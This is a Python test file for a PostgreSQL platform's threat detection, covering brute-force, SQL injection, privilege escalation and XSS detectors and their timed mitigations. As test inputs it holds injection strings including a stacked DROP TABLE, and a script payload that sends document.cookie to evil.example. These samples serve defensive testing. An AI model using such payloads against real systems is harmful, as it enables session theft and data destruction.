"""Threat detection with the ports faked: log lines as PostgreSQL 15 writes them in jsonlog
(failed logins, error statements, pgaudit entries), a catalog the fake SQL target answers, and
the API's own audit trail (401s, request bodies). Then the investigation and its mitigations:
a pg_hba block on the server, a deny entry at the API, NOLOGIN for a role, each lifted by its
at() schedule."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from pgfleet.adapters.engines.local.postgres.logs import parse_log_line
from pgfleet.core import rate_limits
from pgfleet.domains.security import incidents, threat_mitigations, threat_scan, threats
from pgfleet.domains.security import threat_detect as rules
from pgfleet.handlers import scheduled
from pgfleet.ports.engine import LogLine

SERVER = "pgi-0123456789ab"
OTHER = "pgi-ba9876543210"
ATTACKER = "203.0.113.7"


def _raw(at: datetime, line_num: int, **fields: Any) -> bytes:
    entry = {
        "timestamp": at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3] + " UTC", "pid": 4000 + line_num,
        "session_id": f"6569a1b2.{line_num:x}", "line_num": 1, "backend_type": "client backend", **fields,
    }  # fmt: skip
    return json.dumps(entry).encode()


def failed_password(at: datetime, n: int, source: str = ATTACKER, role: str = "app_admin") -> LogLine:
    line = parse_log_line(_raw(
        at, n, user=role, dbname="app", remote_host=source, remote_port=40000 + n, ps="authentication",
        error_severity="FATAL", state_code="28P01", message=f'password authentication failed for user "{role}"',
        detail='Connection matched pg_hba.conf line 6: "hostssl all all 127.0.0.1/32 scram-sha-256"',
    ))  # fmt: skip
    assert line is not None and line.remote_host == source
    return line


def no_encryption(at: datetime, n: int, source: str = ATTACKER, role: str = "app_admin") -> LogLine:
    """What a hostssl-only server writes for libpq's plaintext retry (sslmode=prefer)."""
    line = parse_log_line(_raw(
        at, n, user=role, dbname="app", remote_host=source, remote_port=40000 + n, ps="authentication",
        error_severity="FATAL", state_code="28000",
        message=f'no pg_hba.conf entry for host "{source}", user "{role}", database "app", no encryption',
    ))  # fmt: skip
    assert line is not None
    return line


def authorized(at: datetime, n: int, source: str = ATTACKER, role: str = "app_admin") -> LogLine:
    line = parse_log_line(_raw(at, n, user=role, dbname="app", remote_host=source, error_severity="LOG",
                               message=f"connection authorized: user={role} database=app SSL enabled"))  # fmt: skip
    assert line is not None
    return line


def error_statement(
    at: datetime, n: int, statement: str, message: str = 'syntax error at or near "1"'
) -> LogLine:
    line = parse_log_line(_raw(at, n, user="app", dbname="app", remote_host=ATTACKER, error_severity="ERROR",
                               state_code="42601", message=message, statement=statement))  # fmt: skip
    assert line is not None
    return line


def pgaudit(
    at: datetime, n: int, statement: str, command: str = "ALTER ROLE", klass: str = "ROLE"
) -> LogLine:
    message = f"AUDIT: SESSION,1,1,{klass},{command},,,{json.dumps(statement)},<not logged>"
    line = parse_log_line(
        _raw(at, n, user="postgres", dbname="postgres", error_severity="LOG", message=message)
    )
    assert line is not None
    return line


class Catalog:
    """A SqlTarget whose servers answer the catalog queries from `roles`, `members`, `definers`,
    and record the statements run (ALTER ROLE)."""

    def __init__(self) -> None:
        self.roles: dict[str, set[str]] = {"postgres": {"superuser"}}
        self.members: list[tuple[str, str]] = []
        self.definers: list[str] = []
        self.logins: dict[str, bool] = {"app_admin": True, "app": True}
        self.executed: list[str] = []
        self.sessions: dict[str, int] = {}  # open sessions per role, ended by a lock

    @contextmanager
    def session(self, server_id: str, **_: Any) -> Iterator[Any]:
        catalog = self

        class Session:
            def fetch_all(self, query: Any, params: Any = None) -> list[tuple[Any, ...]]:
                text = str(query)
                if "rolsuper OR" in text:
                    return [(r, "superuser" in a, "createrole" in a, "replication" in a, "bypassrls" in a)
                            for r, a in sorted(catalog.roles.items()) if a]  # fmt: skip
                if "pg_auth_members" in text:
                    return sorted(catalog.members)
                if "pg_database" in text:
                    return [("app",), ("postgres",)]
                if "prosecdef" in text:
                    return [(d,) for d in catalog.definers]
                raise AssertionError(text)

            def fetch_one(self, query: Any, params: Any = None) -> tuple[Any, ...] | None:
                role = params[0]
                if "pg_terminate_backend" in str(query):
                    return (catalog.sessions.pop(role, 0),)
                return (catalog.logins[role], False) if role in catalog.logins else None

            def execute(self, query: Any, params: Any = None) -> None:
                text = query.as_string(None) if hasattr(query, "as_string") else str(query)
                catalog.executed.append(text)
                role = text.split('"')[1]
                catalog.logins[role] = not text.endswith("NOLOGIN")

        yield Session()


@pytest.fixture
def ports(fake_ports: Any) -> Any:
    fake_ports.sql = Catalog()
    fake_ports.logs = {SERVER: [], OTHER: []}
    fake_ports.engine.logs = lambda server_id, limit, since=None: [
        ln for ln in fake_ports.logs.get(server_id, []) if since is None or ln.timestamp >= since
    ][-limit:]
    for rid, tenant in ((SERVER, "acme"), (OTHER, "globex")):
        fake_ports.store.create("instance", {"id": rid, "tenant_id": tenant, "name": rid, "status": "running",
                                             "created_at": "2026-01-01T00:00:00Z"})  # fmt: skip
        fake_ports.engine.servers[rid] = {"running": True}
    rate_limits._denied = None
    yield fake_ports
    rate_limits._denied = None


def _detect(ports: Any, target_id: str | None = None) -> threat_scan.Scan:
    """One scan of every server (both share the fake catalog), or of `target_id`."""
    return threat_scan.scan(ports, threat_scan.servers.targets(ports, threat_scan.SCANNER, target_id, None))


def _brute_force(ports: Any, attempts: int = 20) -> dict[str, Any]:
    start = datetime.now(UTC) - timedelta(seconds=59)
    ports.logs[SERVER] += [failed_password(start + timedelta(seconds=3 * i), i) for i in range(attempts)]
    found = [t for t in _detect(ports).detected.values() if t["threat_type"] == "BRUTE_FORCE"]
    assert len(found) == 1
    return found[0]


def test_twenty_bad_passwords_are_a_brute_force_with_the_source_and_counts(ports: Any, call: Any) -> None:
    threat = _brute_force(ports)
    assert threat["source_ip"] == ATTACKER and threat["target_id"] == SERVER and threat["tenant_id"] == "acme"
    ind = threat["indicators"]
    assert ind["failed_attempts"] == 20 and ind["time_window_minutes"] == 5 and ind["roles"] == ["app_admin"]
    assert ind["signals"] == ["postgres_log"] and ind["reasons"] == {"password": 20}
    # 20 in 57 s: 20/30 of the volume, the full rate, wrong passwords.
    assert threat["severity"] == "HIGH"
    assert threat["confidence_score"] == round(100 * (0.5 * 20 / 30 + 0.3 + 0.2), 1)
    status, body = call("GET", "/api/v1/security/threats/active", role="security_analyst")
    assert status == 200, body
    assert body["total_count"] == 1 and body["summary"]["high_threats"] == 1
    assert body["threats"][0]["threat_id"] == threat["id"] and body["threats"][0]["status"] == "ACTIVE"
    # Another tenant sees none of it; a viewer may not look.
    status, body = call("GET", "/api/v1/security/threats/active", role="security_analyst", tenant="globex")
    assert status == 200 and body["total_count"] == 0
    assert (
        call("GET", f"/api/v1/security/threats/{threat['id']}", role="security_analyst", tenant="globex")[0]
        == 404
    )
    assert call("GET", "/api/v1/security/threats/active", role="viewer")[0] == 403
    # The same attempts read again change nothing; more of them update the same threat.
    again = _detect(ports)
    assert not [t for t in again.detected.values() if t["threat_type"] == "BRUTE_FORCE"] or list(
        again.detected
    ) == [threat["id"]]
    assert len(ports.store.every(threats.KIND)) == 1


def test_a_high_threat_opens_one_incident_linked_both_ways(ports: Any, call: Any) -> None:
    threat = _brute_force(ports)  # HIGH
    assert threat["incident_id"], threat
    status, incident = call(
        "GET", f"/api/v1/security/incidents/{threat['incident_id']}", role="security_analyst"
    )
    assert status == 200, incident
    assert (
        incident["threat_id"] == threat["id"]
        and incident["status"] == "OPEN"
        and incident["severity"] == "HIGH"
    )
    assert incident["incident_type"] == "UNAUTHORIZED_ACCESS" and incident["tenant_id"] == "acme"
    assert (
        incident["affected_systems"] == [threat["target_resource"]]
        and threat["id"] in incident["description"]
    )
    assert incident["created_by"] == "threat-detection"
    # More evidence updates the threat; it keeps its one incident.
    later = datetime.now(UTC)
    ports.logs[SERVER] += [failed_password(later, 100 + i) for i in range(5)]
    again = _detect(ports).detected[threat["id"]]
    assert again["incident_id"] == threat["incident_id"]
    assert len(ports.store.every(incidents.KIND)) == 1


def test_a_medium_threat_or_auto_incident_off_opens_none(ports: Any) -> None:
    start = datetime.now(UTC) - timedelta(seconds=200)
    ports.logs[SERVER] += [failed_password(start + timedelta(seconds=15 * i), i) for i in range(11)]  # MEDIUM
    (threat,) = _detect(ports).detected.values()
    assert threat["severity"] == "MEDIUM" and threat.get("incident_id") is None
    ports.settings = dataclasses.replace(ports.settings, threat_auto_incident=None)
    ports.logs[SERVER] += [failed_password(datetime.now(UTC), 50 + i) for i in range(20)]
    (threat,) = _detect(ports).detected.values()
    assert threat["severity"] == "HIGH" and threat.get("incident_id") is None
    assert ports.store.every(incidents.KIND) == []


def test_a_tls_attempt_and_its_plaintext_retry_are_one_guess(ports: Any) -> None:
    start = datetime.now(UTC) - timedelta(seconds=50)
    for i in range(12):  # libpq (sslmode=prefer): each wrong password fails over TLS, then in plaintext
        at = start + timedelta(seconds=3 * i)
        ports.logs[SERVER] += [
            failed_password(at, 2 * i),
            no_encryption(at + timedelta(milliseconds=4), 2 * i + 1),
        ]
    # A plaintext try on its own (no TLS attempt just before it) is a guess of its own.
    ports.logs[SERVER].append(no_encryption(start + timedelta(seconds=45), 99))
    (threat,) = _detect(ports).detected.values()
    assert threat["indicators"]["failed_attempts"] == 13
    assert threat["indicators"]["reasons"] == {"password": 12, "no_hba": 1}


def test_few_failures_are_no_threat_and_a_login_after_them_is_critical(ports: Any) -> None:
    now = datetime.now(UTC) - timedelta(seconds=30)
    ports.logs[SERVER] += [failed_password(now + timedelta(seconds=i), i) for i in range(5)]
    assert _detect(ports).detected == {}
    ports.logs[SERVER] += [failed_password(now + timedelta(seconds=10 + i), 10 + i) for i in range(6)]
    ports.logs[SERVER].append(authorized(now + timedelta(seconds=20), 30))
    (threat,) = _detect(ports).detected.values()
    assert threat["severity"] == "CRITICAL" and threat["indicators"]["login_succeeded_after"] is True
    assert threat["confidence_score"] >= 95
    assert threat["indicators"]["failed_attempts"] == 11  # across two scans: the window spans them


def test_investigate_blocks_the_source_on_the_server_until_its_time_is_up(ports: Any, call: Any) -> None:
    threat = _brute_force(ports)
    body = {"threat_id": threat["id"], "investigation_status": "INVESTIGATING", "assigned_to": "analyst-1",
            "investigation_notes": "bot network", "mitigation_actions": ["Enhanced monitoring activated"],
            "apply_mitigations": [{"action": "BLOCK_SOURCE_DATABASE", "source_ip": ATTACKER, "duration_seconds": 60}]}  # fmt: skip
    status, out = call("POST", "/api/v1/security/threats/investigate", body, role="security_analyst")
    assert status == 200, out
    assert out["status"] == "INVESTIGATING" and out["assigned_to"] == "analyst-1"
    assert ports.engine.blocked[SERVER] == [ATTACKER]
    (mitigation,) = out["mitigations"]
    assert mitigation["status"] == "ACTIVE" and out["mitigation_actions"][0].startswith(
        f"IP {ATTACKER} blocked"
    )
    assert out["mitigation_actions"][-1] == "Enhanced monitoring activated"
    name = f"{threat_mitigations.SCHEDULE_PREFIX}{mitigation['mitigation_id']}"
    schedule = ports.scheduler.get(name)
    assert schedule is not None and schedule.expression.startswith("at(")
    # The at() schedule fires: the block goes, the threat says so, the trail has both.
    event = {"detail": schedule.payload, "resources": [name]}
    scheduled.lambda_handler(event, None)
    assert ports.engine.blocked[SERVER] == [] and ports.scheduler.get(name) is None
    shown = call("GET", f"/api/v1/security/threats/{threat['id']}", role="security_analyst")[1]
    assert shown["mitigations"][0]["status"] == "LIFTED" and "(lifted " in shown["mitigation_actions"][0]
    trail = ports.history.query(
        "audit", start=datetime.now(UTC) - timedelta(hours=1), end=datetime.now(UTC) + timedelta(seconds=1)
    )
    actions = {r.data["action"] for r in trail.items}
    assert {"security.mitigation.apply", "security.mitigation.lift", "security.threat.investigate"} <= actions


def test_mitigations_past_due_are_lifted_by_the_minute_detection(ports: Any) -> None:
    threat = _brute_force(ports)
    request = threat_mitigations.MitigationRequest(
        action="BLOCK_SOURCE_DATABASE", source_ip=ATTACKER, duration_seconds=10
    )
    threat_mitigations.apply(ports, "analyst", threat, request, datetime.now(UTC) - timedelta(seconds=20))
    assert ports.engine.blocked[SERVER] == [ATTACKER]
    result = _detect(ports)
    assert len(result.lifted) == 1 and ports.engine.blocked[SERVER] == []


def test_bad_investigations_are_422_or_409(ports: Any, call: Any) -> None:
    threat = _brute_force(ports)

    def investigate(**extra: Any) -> tuple[int, Any]:
        body = {"threat_id": threat["id"], "investigation_status": "INVESTIGATING", **extra}
        return call("POST", "/api/v1/security/threats/investigate", body, role="security_analyst")  # type: ignore[no-any-return]

    outside = investigate(
        apply_mitigations=[{"action": "BLOCK_SOURCE_DATABASE", "source_ip": "198.51.100.1"}]
    )
    assert outside[0] == 422 and "not a source" in outside[1]["error"]["message"]
    assert investigate(investigation_status="CLOSED")[0] == 422
    assert (
        investigate(apply_mitigations=[{"action": "BLOCK_SOURCE_DATABASE", "source_ip": "not-an-ip"}])[0]
        == 422
    )
    assert investigate(apply_mitigations=[{"action": "DISABLE_ROLE", "role": "postgres"}])[0] == 422
    assert investigate(apply_mitigations=[{"action": "DISABLE_ROLE", "role": "someone_else"}])[0] == 422
    assert investigate(lift_mitigations=["mit-000000000000"])[0] == 422
    assert ports.engine.blocked.get(SERVER) is None  # nothing was applied by any of them
    assert call("GET", "/api/v1/security/threats/active?threat_type=DDOS", role="security_analyst")[0] == 422
    assert call("GET", "/api/v1/security/threats/active?time_range=2h", role="security_analyst")[0] == 422
    assert investigate(investigation_status="FALSE_POSITIVE")[0] == 200
    assert investigate()[0] == 409  # closed: not reopened
    # The same evidence read again opens no new threat; newer evidence does.
    assert _detect(ports).detected == {}
    assert call("GET", "/api/v1/security/threats/active", role="security_analyst")[1]["total_count"] == 0


def test_disable_role_sets_nologin_and_lifting_gives_login_back(ports: Any, call: Any) -> None:
    threat = _brute_force(ports)
    body = {"threat_id": threat["id"], "investigation_status": "INVESTIGATING",
            "apply_mitigations": [{"action": "DISABLE_ROLE", "role": "app_admin", "duration_seconds": 600}]}  # fmt: skip
    ports.sql.sessions["app_admin"] = 2
    status, out = call("POST", "/api/v1/security/threats/investigate", body, role="security_analyst")
    assert status == 200, out
    assert ports.sql.executed == ['ALTER ROLE "app_admin" NOLOGIN'] and ports.sql.logins["app_admin"] is False
    assert out["mitigations"][0]["sessions_ended"] == 2 and ports.sql.sessions == {}
    lift = {"threat_id": threat["id"], "investigation_status": "RESOLVED",
            "lift_mitigations": [out["mitigations"][0]["mitigation_id"]]}  # fmt: skip
    status, out = call("POST", "/api/v1/security/threats/investigate", lift, role="security_analyst")
    assert status == 200 and out["status"] == "RESOLVED" and out["mitigations"][0]["status"] == "LIFTED"
    assert ports.sql.logins["app_admin"] is True


def test_a_caller_refused_again_and_again_is_privilege_probing_at_the_api(ports: Any, call: Any) -> None:
    for path in ["/api/v1/security/threats/active"] * 6 + ["/api/v1/compliance/frameworks"] * 6:
        assert call("GET", path, role="viewer")[0] == 403
    (threat,) = [t for t in _detect(ports).detected.values() if t["threat_type"] == "PRIVILEGE_ESCALATION"]
    ind = threat["indicators"]
    assert threat["target_id"] is None and threat["tenant_id"] == "acme" and threat["severity"] == "MEDIUM"
    assert (
        ind["failed_attempts"] == 12 and ind["change"] == "api_probing" and ind["caller_roles"] == ["viewer"]
    )
    assert ind["permissions_denied"] == ["compliance:read", "security:read"], ind
    assert threat.get("incident_id") is None  # MEDIUM: people decide
    for _ in range(10):
        assert call("GET", "/api/v1/security/threats/active", role="viewer")[0] == 403
    again = _detect(ports).detected[threat["id"]]
    assert (
        again["severity"] == "HIGH" and again["indicators"]["failed_attempts"] == 22 and again["incident_id"]
    )


def test_the_api_refuses_a_blocked_source_until_lifted(ports: Any, call: Any) -> None:
    for _ in range(12):  # 401s from the gateway's address
        assert (
            call(
                "GET", "/api/v1/security/threats/active", role=None, headers={"Authorization": "Bearer nope"}
            )[0]
            == 401
        )
    found = [t for t in _detect(ports).detected.values() if t["target_id"] is None]
    (threat,) = found
    assert threat["threat_type"] == "BRUTE_FORCE" and threat["source_ip"] == "127.0.0.1"
    assert threat["tenant_id"] == "*" and threat["indicators"]["signals"] == ["api_audit_trail"]
    assert threat["indicators"]["failed_attempts"] == 12
    # Only a platform token sees a threat against the API.
    assert call("GET", f"/api/v1/security/threats/{threat['id']}", role="security_analyst")[0] == 404
    mitigation = threat_mitigations.apply(
        ports, "admin", threat,
        threat_mitigations.MitigationRequest(action="BLOCK_SOURCE_API", source_ip="127.0.0.1", duration_seconds=60),
    )  # fmt: skip
    status, body = call("GET", "/api/v1/security/threats/active", role="admin", tenant=None)
    assert status == 403 and body["error"]["details"]["source_ip"] == "127.0.0.1"
    threat_mitigations.lift(
        ports, "admin", ports.store.get(threat_mitigations.KIND, mitigation["id"]), "test"
    )
    assert call("GET", "/api/v1/security/threats/active", role="admin", tenant=None)[0] == 200


def test_injection_signatures_in_error_statements(ports: Any) -> None:
    now = datetime.now(UTC) - timedelta(seconds=10)
    ports.logs[SERVER] += [
        error_statement(now, 1, "SELECT * FROM users WHERE name = '' OR '1'='1' --'"),
        error_statement(
            now,
            2,
            "SELECT id FROM users WHERE id = 1 UNION SELECT NULL, NULL",
            "each UNION query must have the same number of columns",
        ),  # fmt: skip
        error_statement(now, 3, "SELECT * FROM users WHERE id = '1'; DROP TABLE users; --'"),
        # A legitimate statement that failed: no signature.
        error_statement(
            now, 4, "SELECT * FROM orders WHERE a = 'x' AND b = 'y'", 'column "b" does not exist'
        ),
    ]
    (threat,) = _detect(ports).detected.values()
    assert threat["threat_type"] == "SQL_INJECTION" and threat["severity"] == "CRITICAL"
    ind = threat["indicators"]
    assert ind["statements"] == 3 and ind["databases"] == ["app"] and ind["roles"] == ["app"]
    assert set(ind["signatures"]) == {
        "tautology",
        "comment_truncation",
        "union_select",
        "union_probe",
        "stacked_query",
    }
    assert threat["confidence_score"] == rules.combined_confidence(ind["signature_weights"], 3)


def test_privilege_escalation_from_pgaudit_and_the_catalog_diff(ports: Any) -> None:
    assert _detect(ports, SERVER).detected == {}  # the first scan takes the catalog's baseline
    now = datetime.now(UTC) - timedelta(seconds=5)
    ports.logs[SERVER].append(pgaudit(now, 1, "ALTER ROLE app_admin CREATEROLE"))
    (threat,) = _detect(ports, SERVER).detected.values()
    assert threat["threat_type"] == "PRIVILEGE_ESCALATION" and threat["severity"] == "HIGH"
    assert threat["indicators"]["signals"] == ["pgaudit"] and threat["confidence_score"] == 90.0
    assert threat["indicators"]["privilege"] == "createrole" and threat["indicators"]["roles"] == [
        "app_admin"
    ]
    # The catalog shows it next: the same threat, both signals.
    ports.sql.roles["app_admin"] = {"createrole"}
    (again,) = _detect(ports, SERVER).detected.values()
    assert again["id"] == threat["id"] and again["indicators"]["signals"] == ["catalog_diff", "pgaudit"]
    assert again["confidence_score"] == 98.0
    # Without pgaudit (PostgreSQL 18): the catalog alone finds a routine and a membership.
    ports.sql.definers.append("public.run_as_owner(text)")
    ports.sql.members.append(("reporter", "pg_write_server_files"))
    found = {t["indicators"]["change"]: t for t in _detect(ports, SERVER).detected.values()}
    assert set(found) == {"security_definer", "membership"}
    assert found["membership"]["indicators"]["signals"] == ["catalog_diff"]
    assert found["membership"]["confidence_score"] == 80.0


def test_script_payloads_in_api_input_are_xss(ports: Any, call: Any) -> None:
    payload = {"name": "<script>document.location='https://evil.example/?c='+document.cookie</script>"}
    status, _ = call("POST", "/api/v1/postgres/single", payload, role="operator")
    assert status == 422
    (threat,) = _detect(ports).detected.values()
    assert (
        threat["threat_type"] == "XSS"
        and threat["tenant_id"] == "acme"
        and threat["source_ip"] == "127.0.0.1"
    )
    assert {"script_tag", "dom_access"} <= set(threat["indicators"]["signatures"])
    assert threat["severity"] == "MEDIUM"  # refused (422), not stored
    assert _detect(ports).detected == {}  # read once


def test_detectors_keep_false_positives_out() -> None:
    assert rules.xss('{"description": "<img src=\\"chart.png\\">"}') == {}
    assert rules.xss("%3Cscript%3Ealert(1)%3C/script%3E") != {}
    assert rules.escalations("ALTER ROLE a NOSUPERUSER") == []
    assert (
        rules.escalations(
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS 'select 1'"
        )
        == []
    )
    (definer,) = rules.escalations(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'"
    )
    assert definer.kind == "security_definer" and definer.severity == "HIGH"
    (member,) = rules.escalations("GRANT pg_read_server_files, readers TO bob")
    assert member.subject == "bob" and member.privilege == "member of pg_read_server_files"
    assert rules.escalation_confidence({"pgaudit"}) == 90.0


def test_the_minute_schedule_is_declared() -> None:
    from pgfleet.handlers import domains

    names = {s.name: s for s in domains.platform_schedules()}
    assert names["pgfleet-security-threats"].expression == "rate(1 minute)"
